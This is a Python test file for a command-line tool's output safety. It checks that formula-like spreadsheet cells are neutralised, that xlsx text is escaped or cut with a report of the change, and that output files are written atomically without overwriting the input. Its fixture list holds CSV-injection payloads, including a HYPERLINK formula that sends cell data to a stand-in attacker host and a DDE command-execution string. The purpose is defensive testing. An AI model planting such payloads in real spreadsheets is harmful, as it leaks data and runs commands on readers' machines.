"""Outputs that cannot hurt their reader: formula-like cells neutralised (csv/tsv), text
written as text (xlsx) with what the format cannot hold escaped or cut and said so, and
output files never destroyed (no writing over the input, --force for an existing file,
a temporary file renamed into place)."""

from __future__ import annotations

import csv
import datetime as dt
import os
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shixian.cli import main
from shixian.io.safety import FORMULA_STARTS, OutputError, neutralize, write_atomic

openpyxl = pytest.importorskip("openpyxl")

REF = "2016-05-01"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
HARMLESS = ["-", "+", "-3", "+86", "-1.5", "-1,000", "-5%", "1e-3", "2016年7月底前", "", "'=x"]


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# -- the neutralisation rule ---------------------------------------------------------


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_like_cells_get_a_quote(cell: str) -> None:
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_placeholders_and_text_stay(cell: str) -> None:
    assert neutralize(cell) == cell


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=20))
def test_neutralised_text_never_starts_a_formula(cell: str) -> None:
    safe = neutralize(cell)
    assert safe in (cell, "'" + cell)  # nothing but a quote is ever added
    if safe == cell and cell[:1] in FORMULA_STARTS:
        # only a lone sign or a plain number keep their first character
        assert cell in ("-", "+") or cell.lstrip("+-－＋")[:1].isdigit() or cell[1:2] == "."
    assert neutralize(safe) == safe  # a quoted cell is left alone


# -- csv/tsv output -------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_table_neutralises_formulas(
    fmt: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [["序号", "完成时限", "备注"]]
    rows += [[str(i), "2016年7月底前", cell] for i, cell in enumerate(HOSTILE + HARMLESS)]
    src = tmp_path / "in.csv"
    _write_csv(src, rows)
    out = tmp_path / f"out.{fmt}"
    assert main(["table", str(src), "-r", REF, "-o", str(out)]) == 0
    err = capsys.readouterr().err
    assert f"{len(HOSTILE)} formula-like cells neutralised" in err
    with out.open(encoding="utf-8", newline="") as handle:
        got = list(csv.reader(handle, delimiter="\t" if fmt == "tsv" else ","))
    assert [r[2] for r in got[1:]] == ["'" + c for c in HOSTILE] + HARMLESS
    # --raw-formulas: every cell exactly as read
    raw = tmp_path / f"raw.{fmt}"
    assert main(["table", str(src), "-r", REF, "-o", str(raw), "--raw-formulas", "-q"]) == 0
    with raw.open(encoding="utf-8", newline="") as handle:
        got = list(csv.reader(handle, delimiter="\t" if fmt == "tsv" else ","))
    assert [r[:3] for r in got] == rows


def test_header_cells_are_neutralised_too(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    _write_csv(src, [["=1+1", "完成时限"], ["a", "全年"]])
    out = tmp_path / "out.csv"
    assert main(["table", str(src), "-r", REF, "-o", str(out), "-q"]) == 0
    assert _read_csv(out)[0][:2] == ["'=1+1", "完成时限"]


# -- xlsx output ----------------------------------------------------------------------


def test_xlsx_writes_text_as_text_and_says_what_it_changed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    long = "长" * 40_000
    cells = [HOSTILE[0], "a\x01b", "x\uffffy", long, "ok"]
    src = tmp_path / "in.csv"
    _write_csv(
        src, [["序号", "完成时限", "备注"]] + [[str(i), "全年", c] for i, c in enumerate(cells)]
    )
    out = tmp_path / "out.xlsx"
    assert main(["table", str(src), "-r", REF, "-o", str(out)]) == 0
    err = capsys.readouterr().err
    assert "2 cells held characters .xlsx cannot store" in err
    assert "1 cells were longer than .xlsx allows" in err
    book = openpyxl.load_workbook(out)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    error = header.index("error")
    rows = list(sheet.iter_rows(min_row=2))
    formula = rows[0][2]
    assert formula.value == HOSTILE[0] and formula.data_type == "s"  # text, not a formula
    assert rows[1][2].value == "a\\x01b"
    assert rows[2][2].value == "x\\uffffy"
    assert rows[3][2].value == "长" * 32_767
    assert "cut to 32,767 characters (7,233 dropped)" in rows[3][error].value
    assert "escaped" in rows[1][error].value and "escaped" in rows[2][error].value
    assert rows[4][error].value in (None, "")
    # no formula anywhere in the file's XML
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


# -- never destroy a file ------------------------------------------------------------


def test_existing_output_needs_force(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = tmp_path / "in.csv"
    _write_csv(src, [["序号", "完成时限"], ["1", "全年"]])
    out = tmp_path / "out.csv"
    out.write_bytes(b"precious")
    assert main(["table", str(src), "-r", REF, "-o", str(out), "-q"]) == 2
    assert "exists; give --force" in capsys.readouterr().err
    assert out.read_bytes() == b"precious"
    assert main(["table", str(src), "-r", REF, "-o", str(out), "-q", "--force"]) == 0
    assert _read_csv(out)[0][:2] == ["序号", "完成时限"]


@pytest.mark.parametrize("command", ["table", "ics"])
def test_never_write_over_the_input(
    command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "book.csv"
    _write_csv(src, [["序号", "完成时限"], ["1", "2016年7月底前"]])
    before = src.read_bytes()
    link = tmp_path / "link.csv"
    link.symlink_to(src)
    for target in (src, link, tmp_path / "." / "book.csv"):
        code = main([command, str(src), "-r", REF, "-o", str(target), "--force", "-q"])
        assert code == 2
        assert "refusing to write over the input" in capsys.readouterr().err
    assert src.read_bytes() == before


def test_holidays_output_is_safe_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    notice = tmp_path / "2027.txt"
    notice.write_text(
        "# year: 2027\n一、元旦:1月1日(周五)至3日(周日)放假,共3天。\n", encoding="utf-8"
    )
    out = tmp_path / "h.json"
    out.write_bytes(b"old")
    assert main(["holidays", str(notice), "-o", str(out)]) == 2
    assert "exists; give --force" in capsys.readouterr().err
    assert out.read_bytes() == b"old"
    assert main(["holidays", str(notice), "-o", str(notice), "--force"]) == 2
    assert "refusing to write over the input" in capsys.readouterr().err
    assert main(["holidays", str(notice), "-o", str(out), "--force"]) == 0
    assert out.read_bytes().startswith(b"{")


def test_an_interrupted_write_leaves_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out.csv"
    out.write_bytes(b"old contents")

    def interrupted(fd: int) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_atomic(out, b"new contents", force=True)
    assert out.read_bytes() == b"old contents"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no temporary left
    monkeypatch.undo()
    write_atomic(out, b"new contents", force=True)
    assert out.read_bytes() == b"new contents"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_write_atomic_keeps_permissions_and_refuses_directories(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_bytes(b"x")
    out.chmod(0o640)
    write_atomic(out, b"y", force=True)
    assert out.stat().st_mode & 0o777 == 0o640
    with pytest.raises(OutputError, match="directory"):
        write_atomic(tmp_path, b"y", force=True)


# -- the PNG timeline goes through the same safe writer -------------------------------


def test_png_timeline_needs_force_and_never_writes_over_the_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("matplotlib")
    import matplotlib.image as mpimg

    src = tmp_path / "plan.csv"
    _write_csv(src, [["序号", "完成时限"], ["1", "2016年7月底前"], ["2", "每季度"]])
    before = src.read_bytes()
    argv = ["timeline", str(src), "-c", "完成时限", "-r", REF, "--as-of", REF, "-q", "-o"]
    # an existing picture is kept without --force
    out = tmp_path / "plan.png"
    out.write_bytes(b"precious")
    assert main([*argv, str(out)]) == 2
    assert "exists; give --force" in capsys.readouterr().err
    assert out.read_bytes() == b"precious"
    assert main([*argv, str(out), "--force"]) == 0
    picture = mpimg.imread(out, format="png")  # a real PNG, read back
    assert picture.shape[1] == 1240 and picture.shape[0] > 100
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.csv", "plan.png"]
    # a .png name that is the input through a link is refused, even with --force
    link = tmp_path / "link.png"
    link.symlink_to(src)
    assert main([*argv, str(link), "--force"]) == 2
    assert "refusing to write over the input" in capsys.readouterr().err
    assert src.read_bytes() == before


def test_an_interrupted_png_leaves_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("matplotlib")
    from shixian.io.timeline import plan_of, scene
    from shixian.io.timeline_draw import to_png

    picture = scene(plan_of([], dt.date(2016, 5, 1)))
    out = tmp_path / "old.png"
    out.write_bytes(b"old picture")

    def interrupted(fd: int) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupted)
    with pytest.raises(KeyboardInterrupt):
        to_png(picture, out)
    assert out.read_bytes() == b"old picture"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old.png"]  # no temporary left
    monkeypatch.undo()
    to_png(picture, out)
    assert out.read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
